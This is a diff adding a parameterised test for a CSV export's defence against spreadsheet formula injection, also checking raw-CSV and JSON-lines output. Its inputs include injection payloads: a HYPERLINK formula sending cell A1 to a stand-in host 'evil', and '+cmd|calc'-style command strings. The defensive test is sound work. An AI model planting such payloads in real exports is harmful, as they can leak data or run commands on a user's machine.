@@ -58,6 +58,24 @@ test('CSV quotes what has commas, quotation marks and line breaks, and leaves th
   expect(row.split(',').length).toBe(COLUMNS.length + 1);
 });
 
+test.each([
+  ['=HYPERLINK("http://evil?"&A1)', `"'=HYPERLINK(""http://evil?""&A1)"`],
+  ['+cmd|calc', "'+cmd|calc"],
+  ['-cmd|calc', "'-cmd|calc"],
+  ['@SUM(A1)', "'@SUM(A1)"],
+  ['\t=1+1', "'\t=1+1"],
+  ['\r=1+1', `"'\r=1+1"`],
+  ['-3.5', '-3.5'],
+  ['+41791234567', '+41791234567'],
+  ['-3.5+2', "'-3.5+2"],
+  ['a=1', 'a=1'],
+])('a cell %j, which a spreadsheet could run, is a text in CSV: %s', (customerId, cell) => {
+  expect(ROW_FORMATS.csv.row({ ...unknown, customerId }).startsWith(`${cell},1998-`)).toBe(true);
+  const exact = /["\r]/.test(customerId) ? `"${customerId.replaceAll('"', '""')}"` : customerId;
+  expect(ROW_FORMATS['raw-csv'].row({ ...unknown, customerId }).startsWith(`${exact},1998-`)).toBe(true);
+  expect(JSON.parse(ROW_FORMATS.jsonl.row({ ...unknown, customerId })).customer_id).toBe(customerId);
+});
+
 test('JSON lines have every column, null where unknown', () => {
   const row: unknown = JSON.parse(ROW_FORMATS.jsonl.row(unknown));
   expect(Object.keys(row as object)).toEqual(COLUMNS.map(({ name }) => name));
